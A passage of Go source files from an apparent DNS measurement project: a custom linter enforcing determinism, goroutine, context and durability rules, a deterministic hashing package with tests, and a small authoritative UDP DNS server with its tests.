//   - determinism: forbids time.Now, time.Since, and global math/rand
//     state in the seed-deterministic packages. Wall-clock reads and
//     process-seeded randomness make two runs with the same seed observe
//     different Internets.
//   - maporder: flags `for range` over a map whose body appends to an
//     outer slice without a later sort, writes rendered output, builds a
//     string, or leaks the iteration variables into outer state — the
//     patterns that make a report depend on Go's randomized map order.
//   - gohygiene: flags goroutines launched inside loops with no visible
//     join (WaitGroup-style counter or result channel) and no bound —
//     the shape that turns a 2^24-target scan into an unbounded
//     goroutine bomb.
//   - errdrop: flags discarded error returns from internal/dnswire
//     encode/decode and internal/zonefile parse calls, where a swallowed
//     malformed-packet error silently corrupts measurement counts.
//   - ctxhygiene: polices context propagation through the stage engine:
//     no context.Context struct fields, ctx always the first parameter,
//     and no context.Background()/TODO() roots outside cmd/ and tests.
//   - sleepcall: forbids raw time.Sleep/After/Tick/NewTimer/NewTicker —
//     delay must flow through the injected Clock seam so fake-clock
//     tests and the deterministic backoff schedule see every pause.
//
// The flow-sensitive rules:
//
//   - lockcheck: a mutex acquired on a path must be released on every
//     path out of the function (Unlock or defer Unlock), never acquired
//     twice without an intervening release, and never copied by value —
//     the solver walks the CFG so an early return inside one branch of a
//     lock-protected region is caught even when the happy path is clean.
//   - atomichygiene: a field accessed through sync/atomic anywhere must
//     be accessed atomically everywhere, and an atomically-loaded value
//     must not be stored back non-transactionally (Load; compute; Store
//     loses concurrent updates — use Add or CompareAndSwap).
//   - hotpath: functions annotated //lint:hotpath must contain no
//     allocating construct on any reachable path: append, make/new,
//     string concatenation or conversion, capturing closures, map/slice
//     literals, and interface boxing at call sites. `make lint-escape`
//     cross-checks the rule against the compiler's own escape analysis.
//   - taintflow: the flow-sensitive maporder generalization — values
//     derived from map iteration (including through helper returns and
//     callback parameters) must not reach an output sink on any path
//     without a sort in between.
//   - fsynccheck: write-durability discipline in the packages that
//     publish files by write-then-rename (the checkpoint store): an
//     os.Rename with no (*os.File).Sync() preceding it on any path can
//     publish a torn file after a crash, and a bare f.Close() discards
//     the error that delivers deferred write-back failures.
//
// Intentional exceptions are annotated in the source:
//
//	//lint:allow <rule> <reason>
//
// on the offending line or the line directly above it. An allow comment
// without a reason, naming an unknown rule, or covering a line that no
// longer trips the rule (a stale allow) is itself a finding.
//
// The pass uses only the standard library (go/parser, go/ast, go/types);
// the module stays dependency-free.
package lint

import (
	"fmt"
	"go/ast"
	"go/token"
	"sort"
	"strconv"
	"strings"
)

// Rule names, as they appear in findings and //lint:allow comments.
const (
	RuleDeterminism   = "determinism"
	RuleMapOrder      = "maporder"
	RuleGoHygiene     = "gohygiene"
	RuleErrDrop       = "errdrop"
	RuleCtxHygiene    = "ctxhygiene"
	RuleSleepCall     = "sleepcall"
	RuleLockCheck     = "lockcheck"
	RuleAtomicHygiene = "atomichygiene"
	RuleHotPath       = "hotpath"
	RuleTaintFlow     = "taintflow"
	RuleFsyncCheck    = "fsynccheck"
	// RuleAllow tags problems with //lint:allow comments themselves:
	// malformed, unknown rule, or stale (covering nothing).
	RuleAllow = "allow"
)

// AllRules lists every rule name, in reporting order. The CLI's -rules
// flag validates against this.
var AllRules = []string{
	RuleDeterminism, RuleMapOrder, RuleGoHygiene, RuleErrDrop,
	RuleCtxHygiene, RuleSleepCall, RuleLockCheck, RuleAtomicHygiene,
	RuleHotPath, RuleTaintFlow, RuleFsyncCheck,
}

func knownRule(name string) bool {
	if name == RuleAllow {
		return true
	}
	for _, r := range AllRules {
		if r == name {
			return true
		}
	}
	return false
}

// Finding is one reported violation. Allowed marks findings suppressed
// by a //lint:allow comment; Analyze drops them, AnalyzeAll keeps them
// so the CLI's JSON mode can report allow-state.
type Finding struct {
	Pos     token.Position
	Rule    string
	Msg     string
	Allowed bool
}

// String renders the canonical `file:line: [rule] message` form.
func (f Finding) String() string {
	return fmt.Sprintf("%s:%d: [%s] %s", f.Pos.Filename, f.Pos.Line, f.Rule, f.Msg)
}

// Config names the package sets each rule applies to. Paths are full
// import paths.
type Config struct {
	// ModulePath is the module being analyzed (for locating the dnswire
	// and zonefile packages the errdrop rule watches).
	ModulePath string
	// Deterministic lists the packages whose outputs must be pure
	// functions of (seed, epoch); the determinism rule applies here.
	Deterministic []string
	// Rendering lists the packages that produce tables, reports, and
	// result sets; the maporder and taintflow rules apply here.
	Rendering []string
	// Durable lists the packages that publish files by atomic
	// write-then-rename; the fsynccheck rule applies here.
	Durable []string
	// Rules restricts analysis to the named rules; nil or empty means
	// all. Stale-allow detection only considers allows naming enabled
	// rules, so filtering cannot manufacture false staleness.
	Rules []string
}

// enabled reports whether a rule is selected by the Rules filter.
func (c *Config) enabled(rule string) bool {
	if len(c.Rules) == 0 {
		return true
	}
	return contains(c.Rules, rule)
}

// DefaultConfig returns the repository's contract: which packages are
// seed-deterministic and which render results. DESIGN.md ("Determinism
// contract") documents the same sets.
func DefaultConfig(modulePath string) Config {
	ip := func(names ...string) []string {
		out := make([]string, len(names))
		for i, n := range names {
			out[i] = modulePath + "/internal/" + n
		}
		return out
	}
	return Config{
		ModulePath: modulePath,
		Deterministic: ip("wildnet", "prand", "lfsr", "cluster", "classify",
			"analysis", "churn", "scanner", "metrics"),
		// core, pipeline, and shardio joined with the streaming epoch
		// engine: they now carry delta batches into rendered output, so
		// taintflow must follow results through them too.
		Rendering: ip("analysis", "classify", "snoop", "churn", "scanner",
			"core", "pipeline", "shardio"),
		// The checkpoint store is where a missed fsync turns a crash
		// into a torn snapshot.
		Durable: ip("checkpoint"),
	}
}

func contains(paths []string, p string) bool {
	for _, x := range paths {
		if x == p {
			return true
		}
	}
	return false
}

// Analyze runs the enabled analyzers over one loaded package and returns
// the surviving (non-allowed) findings sorted by position.
func (c *Config) Analyze(p *Package) []Finding {
	all := c.AnalyzeAll(p)
	out := all[:0]
	for _, f := range all {
		if !f.Allowed {
			out = append(out, f)
		}
	}
	return out
}

// checkers pairs each rule with its analyzer, in reporting order.
var checkers = []struct {
	rule string
	fn   func(*Package, *Config, func(token.Pos, string, string))
}{
	{RuleDeterminism, checkDeterminism},
	{RuleMapOrder, checkMapOrder},
	{RuleGoHygiene, checkGoHygiene},
	{RuleErrDrop, checkErrDrop},
	{RuleCtxHygiene, checkCtxHygiene},
	{RuleSleepCall, checkSleepCall},
	{RuleLockCheck, checkLockCheck},
	{RuleAtomicHygiene, checkAtomicHygiene},
	{RuleHotPath, checkHotPath},
	{RuleTaintFlow, checkTaintFlow},
	{RuleFsyncCheck, checkFsyncCheck},
}

// AnalyzeAll runs the enabled analyzers and returns every finding,
// including ones a //lint:allow suppresses (marked Allowed) and
// allow-machinery findings: malformed comments, unknown rule names, and
// stale allows whose rule no longer fires on the covered line.
func (c *Config) AnalyzeAll(p *Package) []Finding {
	var raw []Finding
	emit := func(pos token.Pos, rule, msg string) {
		raw = append(raw, Finding{Pos: p.Fset.Position(pos), Rule: rule, Msg: msg})
	}
	for _, ck := range checkers {
		if c.enabled(ck.rule) {
			ck.fn(p, c, emit)
		}
	}

	allows, records, bad := collectAllows(p)
	out := make([]Finding, 0, len(raw)+len(bad))
	for _, f := range raw {
		f.Allowed = allows.covers(f.Pos, f.Rule)
		out = append(out, f)
	}
	if c.enabled(RuleAllow) {
		out = append(out, bad...)
		out = append(out, c.staleAllows(raw, records)...)
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Pos.Filename != out[j].Pos.Filename {
			return out[i].Pos.Filename < out[j].Pos.Filename
		}
		if out[i].Pos.Line != out[j].Pos.Line {
			return out[i].Pos.Line < out[j].Pos.Line
		}
		if out[i].Rule != out[j].Rule {
			return out[i].Rule < out[j].Rule
		}
		return out[i].Msg < out[j].Msg
	})
	// A multi-assign statement can trip the same rule once per operand;
	// one report per line and rule is enough.
	dedup := out[:0]
	for i, f := range out {
		if i > 0 && f.Pos.Filename == out[i-1].Pos.Filename &&
			f.Pos.Line == out[i-1].Pos.Line && f.Rule == out[i-1].Rule {
			continue
		}
		dedup = append(dedup, f)
	}
	return dedup
}

// staleAllows reports //lint:allow comments that suppress nothing: no
// finding of the named rule sits on the comment's line or the line
// below. Only allows naming enabled rules are judged — with a rule
// filter active, an allow for a disabled rule cannot prove itself.
// Unknown rule names are reported unconditionally: they can never match
// a finding, so they are typos, not suppressions.
func (c *Config) staleAllows(raw []Finding, records []allowRecord) []Finding {
	var out []Finding
	for _, rec := range records {
		if !knownRule(rec.rule) {
			out = append(out, Finding{Pos: rec.pos, Rule: RuleAllow,
				Msg: "//lint:allow names unknown rule " + strconv.Quote(rec.rule)})
			continue
		}
		if !c.enabled(rec.rule) {
			continue
		}
		used := false
		for _, f := range raw {
			if f.Rule == rec.rule && f.Pos.Filename == rec.pos.Filename &&
				(f.Pos.Line == rec.pos.Line || f.Pos.Line == rec.pos.Line+1) {
				used = true
				break
			}
		}
		if !used {
			out = append(out, Finding{Pos: rec.pos, Rule: RuleAllow,
				Msg: "stale //lint:allow " + rec.rule + ": the covered line no longer trips the rule; delete the comment"})
		}
	}
	return out
}

// allowSet maps file -> line -> rules allowed on that line.
type allowSet map[string]map[int][]string

// covers reports whether an allow for rule sits on the finding's line or
// the line directly above it.
func (a allowSet) covers(pos token.Position, rule string) bool {
	lines := a[pos.Filename]
	for _, l := range []int{pos.Line, pos.Line - 1} {
		for _, r := range lines[l] {
			if r == rule {
				return true
			}
		}
	}
	return false
}

// allowRecord is one parsed //lint:allow comment, kept positionally for
// stale-allow detection.
type allowRecord struct {
	pos  token.Position
	rule string
}

// collectAllows parses every //lint:allow comment in the package.
// Malformed comments (missing rule or reason) come back as findings so
// the escape hatch cannot silently rot.
func collectAllows(p *Package) (allowSet, []allowRecord, []Finding) {
	set := allowSet{}
	var records []allowRecord
	var bad []Finding
	for _, file := range p.Files {
		for _, cg := range file.Comments {
			for _, c := range cg.List {
				text, ok := strings.CutPrefix(c.Text, "//lint:allow")
				if !ok {
					continue
				}
				pos := p.Fset.Position(c.Pos())
				fields := strings.Fields(text)
				if len(fields) < 2 {
					bad = append(bad, Finding{Pos: pos, Rule: RuleAllow,
						Msg: "malformed //lint:allow: need a rule name and a reason"})
					continue
				}
				m := set[pos.Filename]
				if m == nil {
					m = map[int][]string{}
					set[pos.Filename] = m
				}
				m[pos.Line] = append(m[pos.Line], fields[0])
				records = append(records, allowRecord{pos: pos, rule: fields[0]})
			}
		}
	}
	return set, records, bad
}

// inspectStack walks root calling fn with each node and its ancestor
// chain (root first, node last). Returning false prunes the subtree.
func inspectStack(root ast.Node, fn func(n ast.Node, stack []ast.Node) bool) {
	var stack []ast.Node
	ast.Inspect(root, func(n ast.Node) bool {
		if n == nil {
			stack = stack[:len(stack)-1]
			return true
		}
		stack = append(stack, n)
		if !fn(n, stack) {
			stack = stack[:len(stack)-1]
			return false
		}
		return true
	})
}

// enclosing returns the innermost node of kind K on the stack strictly
// above the last element.
func enclosingLoop(stack []ast.Node) ast.Stmt {
	for i := len(stack) - 2; i >= 0; i-- {
		switch s := stack[i].(type) {
		case *ast.ForStmt:
			return s
		case *ast.RangeStmt:
			return s
		case *ast.FuncLit, *ast.FuncDecl:
			// A loop outside the nearest function doesn't iterate this
			// statement.
			return nil
		}
	}
	return nil
}

// enclosingFuncBody returns the body of the innermost function containing
// the last stack element.
func enclosingFuncBody(stack []ast.Node) *ast.BlockStmt {
	for i := len(stack) - 2; i >= 0; i-- {
		switch f := stack[i].(type) {
		case *ast.FuncLit:
			return f.Body
		case *ast.FuncDecl:
			return f.Body
		}
	}
	return nil
}

// within reports whether pos falls inside node's source range.
func within(pos token.Pos, node ast.Node) bool {
	return node != nil && node.Pos() <= pos && pos <= node.End()
}
