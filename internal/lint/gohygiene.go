package lint

import (
	"go/ast"
	"go/token"
	"go/types"
)

// checkGoHygiene flags `go` statements inside loops that show no join
// and no bound. A per-iteration goroutine is fine at test scale and a
// bomb at 2^24 targets; the rule demands the launch site make its
// lifecycle visible through one of the idioms the codebase already
// uses:
//
//   - a sync.WaitGroup Add/Done pair reachable from the loop (the Wait
//     may live elsewhere, e.g. in Close);
//   - a result channel: the goroutine sends, the enclosing function
//     receives;
//   - a semaphore: the loop acquires a channel slot around the launch.
func checkGoHygiene(p *Package, cfg *Config, emit func(token.Pos, string, string)) {
	for _, f := range p.Files {
		inspectStack(f, func(n ast.Node, stack []ast.Node) bool {
			g, ok := n.(*ast.GoStmt)
			if !ok {
				return true
			}
			loop := enclosingLoop(stack)
			if loop == nil {
				return true
			}
			fnBody := enclosingFuncBody(stack)
			if hasWaitGroupAccounting(p, loop) ||
				hasResultChannelJoin(p, g, loop, fnBody) ||
				hasSemaphoreBound(p, g, loop, fnBody) {
				return true
			}
			emit(g.Pos(), RuleGoHygiene,
				"goroutine launched per loop iteration with no visible join or bound; track it with a WaitGroup, collect over a result channel, or gate it with a semaphore")
			return true
		})
	}
}

// hasWaitGroupAccounting reports an Add or Done call on a sync.WaitGroup
// anywhere in the loop body (including inside the launched closure).
func hasWaitGroupAccounting(p *Package, loop ast.Stmt) bool {
	found := false
	ast.Inspect(loop, func(n ast.Node) bool {
		if found {
			return false
		}
		call, ok := n.(*ast.CallExpr)
		if !ok {
			return true
		}
		sel, ok := call.Fun.(*ast.SelectorExpr)
		if !ok {
			return true
		}
		if name := sel.Sel.Name; name != "Add" && name != "Done" {
			return true
		}
		if isWaitGroup(p.Info.Types[sel.X].Type) {
			found = true
		}
		return !found
	})
	return found
}

func isWaitGroup(t types.Type) bool {
	if t == nil {
		return false
	}
	if ptr, ok := t.(*types.Pointer); ok {
		t = ptr.Elem()
	}
	named, ok := t.(*types.Named)
	if !ok {
		return false
	}
	obj := named.Obj()
	return obj.Pkg() != nil && obj.Pkg().Path() == "sync" && obj.Name() == "WaitGroup"
}

// hasResultChannelJoin reports that the launched closure sends on a
// channel declared outside the loop and the enclosing function receives
// from (or ranges over) the same channel.
func hasResultChannelJoin(p *Package, g *ast.GoStmt, loop ast.Stmt, fnBody *ast.BlockStmt) bool {
	lit, ok := g.Call.Fun.(*ast.FuncLit)
	if !ok {
		return false
	}
	for _, ch := range channelsIn(p, lit.Body, sendOps, loop) {
		if receivesFrom(p, fnBody, ch) {
			return true
		}
	}
	return false
}

// hasSemaphoreBound reports a channel send in the loop outside the
// goroutine (the acquire) whose matching receive appears in the closure
// or the function (the release).
func hasSemaphoreBound(p *Package, g *ast.GoStmt, loop ast.Stmt, fnBody *ast.BlockStmt) bool {
	for _, ch := range channelsInExcept(p, loop, sendOps, g, loop) {
		if receivesFrom(p, fnBody, ch) {
			return true
		}
	}
	return false
}

type chanOp int

const (
	sendOps chanOp = iota
	recvOps
)

// channelsIn collects the objects of channels used in send (or receive)
// position under root, keeping only those declared outside scope.
func channelsIn(p *Package, root ast.Node, op chanOp, scope ast.Stmt) []types.Object {
	return channelsInExcept(p, root, op, nil, scope)
}

// channelsInExcept is channelsIn skipping the subtree rooted at skip.
func channelsInExcept(p *Package, root ast.Node, op chanOp, skip ast.Node, scope ast.Stmt) []types.Object {
	var out []types.Object
	seen := map[types.Object]bool{}
	add := func(e ast.Expr) {
		id, ok := e.(*ast.Ident)
		if !ok {
			return
		}
		obj := p.Info.Uses[id]
		if obj == nil || seen[obj] || within(obj.Pos(), scope) {
			return
		}
		seen[obj] = true
		out = append(out, obj)
	}
	ast.Inspect(root, func(n ast.Node) bool {
		if skip != nil && n == skip {
			return false
		}
		switch s := n.(type) {
		case *ast.SendStmt:
			if op == sendOps {
				add(s.Chan)
			}
		case *ast.UnaryExpr:
			if op == recvOps && s.Op == token.ARROW {
				add(s.X)
			}
		}
		return true
	})
	return out
}

// receivesFrom reports a receive expression or channel range over obj
// anywhere in body.
func receivesFrom(p *Package, body *ast.BlockStmt, obj types.Object) bool {
	if body == nil {
		return false
	}
	found := false
	matches := func(e ast.Expr) bool {
		id, ok := e.(*ast.Ident)
		return ok && p.Info.Uses[id] == obj
	}
	ast.Inspect(body, func(n ast.Node) bool {
		if found {
			return false
		}
		switch s := n.(type) {
		case *ast.UnaryExpr:
			if s.Op == token.ARROW && matches(s.X) {
				found = true
			}
		case *ast.RangeStmt:
			if matches(s.X) {
				found = true
			}
		}
		return !found
	})
	return found
}
