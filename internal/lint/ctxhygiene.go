package lint

import (
	"go/ast"
	"go/token"
	"go/types"
	"strings"
)

// checkCtxHygiene enforces the context-propagation discipline the stage
// engine depends on. Cancellation only reaches the scan hot paths if
// every layer threads the caller's context explicitly, so the rule
// polices the three ways a context goes stale or ambient:
//
//   - a context.Context struct field outlives the call it belongs to and
//     detaches cancellation from the call tree; pass ctx as a parameter
//     instead;
//   - a ctx parameter anywhere but first hides the function's
//     cancellation surface from readers and callers;
//   - context.Background() manufactures an uncancellable root. Only
//     package main (cmd/) owns roots — everything else must accept one.
//     Tests are exempt by construction: the loader skips _test.go files.
//
// The ctx-less compatibility wrappers in scanner and core share one
// annotated package-level Background each (`//lint:allow ctxhygiene`).
func checkCtxHygiene(p *Package, cfg *Config, emit func(token.Pos, string, string)) {
	// cmd/ binaries are where roots belong.
	if p.Types.Name() == "main" || strings.HasPrefix(p.Path, cfg.ModulePath+"/cmd/") {
		return
	}
	for _, f := range p.Files {
		ast.Inspect(f, func(n ast.Node) bool {
			switch s := n.(type) {
			case *ast.StructType:
				for _, field := range s.Fields.List {
					if isContextType(p.Info.Types[field.Type].Type) {
						emit(field.Pos(), RuleCtxHygiene,
							"context.Context stored in a struct field detaches cancellation from the call tree; pass ctx as the first parameter instead")
					}
				}
			case *ast.FuncType:
				checkCtxParamFirst(p, s, emit)
			case *ast.CallExpr:
				checkCtxRoot(p, s, emit)
			}
			return true
		})
	}
}

// checkCtxParamFirst flags a context.Context parameter that is not the
// function's first parameter.
func checkCtxParamFirst(p *Package, ft *ast.FuncType, emit func(token.Pos, string, string)) {
	if ft.Params == nil {
		return
	}
	idx := 0
	for _, field := range ft.Params.List {
		// An anonymous parameter group still occupies one position.
		width := len(field.Names)
		if width == 0 {
			width = 1
		}
		if isContextType(p.Info.Types[field.Type].Type) && idx != 0 {
			emit(field.Pos(), RuleCtxHygiene,
				"ctx must be the first parameter so the cancellation surface is visible at every call site")
		}
		idx += width
	}
}

// checkCtxRoot flags context.Background and context.TODO calls: new
// uncancellable roots belong to package main only.
func checkCtxRoot(p *Package, call *ast.CallExpr, emit func(token.Pos, string, string)) {
	sel, ok := call.Fun.(*ast.SelectorExpr)
	if !ok {
		return
	}
	id, ok := sel.X.(*ast.Ident)
	if !ok {
		return
	}
	pn, ok := p.Info.Uses[id].(*types.PkgName)
	if !ok || pn.Imported().Path() != "context" {
		return
	}
	if name := sel.Sel.Name; name == "Background" || name == "TODO" {
		emit(call.Pos(), RuleCtxHygiene,
			"context."+name+" creates an uncancellable root outside cmd/; accept a ctx parameter from the caller")
	}
}

// isContextType reports whether t is context.Context.
func isContextType(t types.Type) bool {
	named, ok := t.(*types.Named)
	if !ok {
		return false
	}
	obj := named.Obj()
	return obj.Pkg() != nil && obj.Pkg().Path() == "context" && obj.Name() == "Context"
}
