// Package prand provides the deterministic hashing primitives behind the
// procedural virtual Internet: every property of a simulated host is a
// pure function of (seed, ip, facet, epoch), so a population of millions
// of hosts needs no per-host state and two runs with the same seed observe
// exactly the same world.
package prand

// Mix64 is the splitmix64 finalizer: a fast, well-distributed 64→64-bit
// mixing function.
func Mix64(x uint64) uint64 {
	x += 0x9E3779B97F4A7C15
	x = (x ^ (x >> 30)) * 0xBF58476D1CE4E5B9
	x = (x ^ (x >> 27)) * 0x94D049BB133111EB
	return x ^ (x >> 31)
}

// Hash combines an arbitrary number of words into one well-mixed word.
func Hash(words ...uint64) uint64 {
	h := uint64(0x8445D61A4E774912)
	for _, w := range words {
		h = Mix64(h ^ w)
	}
	return h
}

// Float64 maps a hash word to [0, 1).
func Float64(h uint64) float64 {
	return float64(h>>11) / (1 << 53)
}

// UnitOf is shorthand for Float64(Hash(words...)).
func UnitOf(words ...uint64) float64 {
	return Float64(Hash(words...))
}

// IntN maps a hash word to [0, n). n must be positive.
func IntN(h uint64, n int) int {
	return int(h % uint64(n))
}

// Pick selects an index from cumulative weights: weights[i] is the
// probability mass of choice i; they need not sum to 1 (the remainder
// falls on the last index). u must be in [0, 1).
func Pick(u float64, weights []float64) int {
	acc := 0.0
	for i, w := range weights {
		acc += w
		if u < acc {
			return i
		}
	}
	return len(weights) - 1
}

// Source is a tiny deterministic stream generator for places that need a
// sequence of values rather than a keyed lookup.
type Source struct{ state uint64 }

// NewSource seeds a stream.
func NewSource(seed uint64) *Source { return &Source{state: Mix64(seed)} }

// Next returns the next 64-bit value.
func (s *Source) Next() uint64 {
	s.state += 0x9E3779B97F4A7C15
	return Mix64(s.state)
}

// Float64 returns the next value in [0, 1).
func (s *Source) Float64() float64 { return Float64(s.Next()) }

// IntN returns the next value in [0, n).
func (s *Source) IntN(n int) int { return IntN(s.Next(), n) }
