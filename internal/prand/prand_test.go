package prand

import (
	"math"
	"testing"
	"testing/quick"
)

func TestMix64AvalanchesSingleBits(t *testing.T) {
	// Flipping one input bit must flip roughly half the output bits.
	base := Mix64(0x123456789ABCDEF)
	for bit := uint(0); bit < 64; bit++ {
		flipped := Mix64(0x123456789ABCDEF ^ (1 << bit))
		diff := base ^ flipped
		n := 0
		for d := diff; d != 0; d &= d - 1 {
			n++
		}
		if n < 12 || n > 52 {
			t.Errorf("bit %d avalanche count %d", bit, n)
		}
	}
}

func TestFloat64Range(t *testing.T) {
	f := func(h uint64) bool {
		v := Float64(h)
		return v >= 0 && v < 1
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestUnitOfUniformity(t *testing.T) {
	const n = 100000
	buckets := make([]int, 10)
	for i := 0; i < n; i++ {
		buckets[int(UnitOf(42, uint64(i))*10)]++
	}
	for b, count := range buckets {
		if math.Abs(float64(count)-n/10) > n/10*0.1 {
			t.Errorf("bucket %d has %d of %d samples", b, count, n)
		}
	}
}

func TestHashOrderSensitive(t *testing.T) {
	if Hash(1, 2) == Hash(2, 1) {
		t.Error("hash ignores word order")
	}
	if Hash(1) == Hash(1, 0) {
		t.Error("hash ignores word count")
	}
}

func TestPick(t *testing.T) {
	w := []float64{0.5, 0.3, 0.2}
	cases := []struct {
		u    float64
		want int
	}{
		{0.0, 0}, {0.49, 0}, {0.5, 1}, {0.79, 1}, {0.8, 2}, {0.999, 2},
	}
	for _, c := range cases {
		if got := Pick(c.u, w); got != c.want {
			t.Errorf("Pick(%f) = %d, want %d", c.u, got, c.want)
		}
	}
	// Out-of-mass values fall to the last index.
	if got := Pick(0.99, []float64{0.1, 0.2}); got != 1 {
		t.Errorf("overflow pick = %d", got)
	}
}

func TestSourceDeterministic(t *testing.T) {
	a, b := NewSource(7), NewSource(7)
	for i := 0; i < 100; i++ {
		if a.Next() != b.Next() {
			t.Fatal("sources diverged")
		}
	}
	c := NewSource(8)
	if NewSource(7).Next() == c.Next() {
		t.Error("different seeds, same stream")
	}
}

func TestIntNRange(t *testing.T) {
	s := NewSource(3)
	for i := 0; i < 1000; i++ {
		if v := s.IntN(7); v < 0 || v >= 7 {
			t.Fatalf("IntN out of range: %d", v)
		}
	}
}
