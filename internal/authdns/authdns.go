// Package authdns is a small standalone authoritative DNS server over
// real UDP sockets, answering from a parsed zone file — the component the
// measurement team runs for its ground-truth and scan-base zones
// (§3.2/§3.3). It answers exact and wildcard matches, returns NXDOMAIN
// with the zone SOA for misses inside the zone, and REFUSED for names
// outside it.
package authdns

import (
	"fmt"
	"net"
	"sync"
	"sync/atomic"

	"goingwild/internal/dnswire"
	"goingwild/internal/zonefile"
)

// Server serves one zone over UDP.
type Server struct {
	zone *zonefile.Zone
	conn *net.UDPConn
	wg   sync.WaitGroup

	queries atomic.Uint64
	// Log receives one line per query when non-nil.
	Log func(format string, args ...any)
}

// Serve binds addr ("127.0.0.1:0" for an ephemeral port) and starts
// answering.
func Serve(zone *zonefile.Zone, addr string) (*Server, error) {
	if zone.Origin == "" {
		return nil, fmt.Errorf("authdns: zone has no $ORIGIN")
	}
	udpAddr, err := net.ResolveUDPAddr("udp4", addr)
	if err != nil {
		return nil, fmt.Errorf("authdns: %w", err)
	}
	conn, err := net.ListenUDP("udp4", udpAddr)
	if err != nil {
		return nil, fmt.Errorf("authdns: %w", err)
	}
	s := &Server{zone: zone, conn: conn}
	s.wg.Add(1)
	go s.loop()
	return s, nil
}

// Addr returns the bound address.
func (s *Server) Addr() *net.UDPAddr { return s.conn.LocalAddr().(*net.UDPAddr) }

// Queries returns the number of queries handled.
func (s *Server) Queries() uint64 { return s.queries.Load() }

// Close stops the server.
func (s *Server) Close() error {
	err := s.conn.Close()
	s.wg.Wait()
	return err
}

func (s *Server) loop() {
	defer s.wg.Done()
	buf := make([]byte, 4096)
	for {
		n, peer, err := s.conn.ReadFromUDP(buf)
		if err != nil {
			return
		}
		resp := s.handle(buf[:n])
		if resp == nil {
			continue
		}
		wire, err := resp.PackBytes()
		if err != nil {
			continue
		}
		if msg, truncated := resp.Truncate(dnswire.MaxUDPSize); truncated {
			if wire, err = msg.PackBytes(); err != nil {
				continue
			}
		}
		s.conn.WriteToUDP(wire, peer)
	}
}

// Handle answers a single wire-format query (exported for tests and for
// embedding the responder behind other transports).
func (s *Server) Handle(wire []byte) []byte {
	resp := s.handle(wire)
	if resp == nil {
		return nil
	}
	out, err := resp.PackBytes()
	if err != nil {
		return nil
	}
	return out
}

func (s *Server) handle(wire []byte) *dnswire.Message {
	q, err := dnswire.Unpack(wire)
	if err != nil || q.Header.QR || len(q.Questions) == 0 {
		return nil
	}
	s.queries.Add(1)
	question := q.Questions[0]
	name := dnswire.CanonicalName(question.Name)
	if s.Log != nil {
		s.Log("query %s %s", name, question.Type)
	}
	if question.Class != dnswire.ClassIN && question.Class != dnswire.ClassANY {
		return dnswire.NewResponse(q, dnswire.RCodeNotImp)
	}
	if !s.zone.InZone(name) {
		return dnswire.NewResponse(q, dnswire.RCodeRefused)
	}
	rrs := s.zone.Lookup(name, question.Type)
	if len(rrs) == 0 && question.Type != dnswire.TypeCNAME {
		// A CNAME at the name answers queries for any type.
		rrs = s.zone.Lookup(name, dnswire.TypeCNAME)
	}
	resp := dnswire.NewResponse(q, dnswire.RCodeNoError)
	resp.Header.AA = true
	if len(rrs) == 0 {
		// Distinguish empty answer (name exists with other types) from
		// NXDOMAIN (name absent entirely).
		if len(s.zone.Lookup(name, dnswire.TypeANY)) == 0 {
			resp.Header.RCode = dnswire.RCodeNXDomain
		}
		if soa, ok := s.zone.SOA(); ok {
			resp.Authority = append(resp.Authority, soa)
		}
		return resp
	}
	resp.Answers = append(resp.Answers, rrs...)
	// Chase one CNAME hop inside the zone, as authoritative servers do.
	for _, rr := range rrs {
		if c, ok := rr.Data.(dnswire.CNAME); ok && question.Type != dnswire.TypeCNAME {
			resp.Answers = append(resp.Answers, s.zone.Lookup(c.Target, question.Type)...)
		}
	}
	return resp
}
