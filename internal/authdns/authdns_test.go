package authdns

import (
	"net"
	"strings"
	"testing"
	"time"

	"goingwild/internal/dnswire"
	"goingwild/internal/zonefile"
)

const testZone = `
$ORIGIN dnsstudy.example.edu.
$TTL 300
@      IN SOA ns1 hostmaster 1 7200 900 1209600 86400
@      IN NS  ns1
ns1    IN A   192.0.2.1
gt     IN A   192.0.2.10
www    IN CNAME gt
*.scan IN A   192.0.2.99
`

func startServer(t *testing.T) *Server {
	t.Helper()
	z, err := zonefile.Parse(strings.NewReader(testZone))
	if err != nil {
		t.Fatal(err)
	}
	s, err := Serve(z, "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	return s
}

// exchange performs one real UDP query against the server.
func exchange(t *testing.T, s *Server, name string, typ dnswire.Type) *dnswire.Message {
	t.Helper()
	conn, err := net.DialUDP("udp4", nil, s.Addr())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	q := dnswire.NewQuery(0xBEEF, name, typ, dnswire.ClassIN)
	wire, err := q.PackBytes()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := conn.Write(wire); err != nil {
		t.Fatal(err)
	}
	conn.SetReadDeadline(time.Now().Add(2 * time.Second))
	buf := make([]byte, 4096)
	n, err := conn.Read(buf)
	if err != nil {
		t.Fatal(err)
	}
	m, err := dnswire.Unpack(buf[:n])
	if err != nil {
		t.Fatal(err)
	}
	if m.Header.ID != 0xBEEF || !m.Header.QR {
		t.Fatalf("bad response header: %+v", m.Header)
	}
	return m
}

func TestAuthoritativeAnswerOverRealUDP(t *testing.T) {
	s := startServer(t)
	m := exchange(t, s, "gt.dnsstudy.example.edu", dnswire.TypeA)
	if m.Header.RCode != dnswire.RCodeNoError || len(m.Answers) != 1 {
		t.Fatalf("answer = %v", m)
	}
	if !m.Header.AA {
		t.Error("authoritative answer bit unset")
	}
	if a := m.Answers[0].Data.(dnswire.A); a.Addr.String() != "192.0.2.10" {
		t.Errorf("A = %v", a.Addr)
	}
	if s.Queries() == 0 {
		t.Error("query counter not incremented")
	}
}

func TestWildcardOverUDP(t *testing.T) {
	s := startServer(t)
	m := exchange(t, s, "p1.c0a80105.scan.dnsstudy.example.edu", dnswire.TypeA)
	if len(m.Answers) != 1 {
		t.Fatalf("wildcard answers = %d", len(m.Answers))
	}
	if m.Answers[0].Name != "p1.c0a80105.scan.dnsstudy.example.edu" {
		t.Errorf("owner = %q", m.Answers[0].Name)
	}
}

func TestCNAMEChase(t *testing.T) {
	s := startServer(t)
	m := exchange(t, s, "www.dnsstudy.example.edu", dnswire.TypeA)
	var haveCNAME, haveA bool
	for _, rr := range m.Answers {
		switch rr.Data.(type) {
		case dnswire.CNAME:
			haveCNAME = true
		case dnswire.A:
			haveA = true
		}
	}
	if !haveCNAME || !haveA {
		t.Errorf("CNAME chase incomplete: %v", m.Answers)
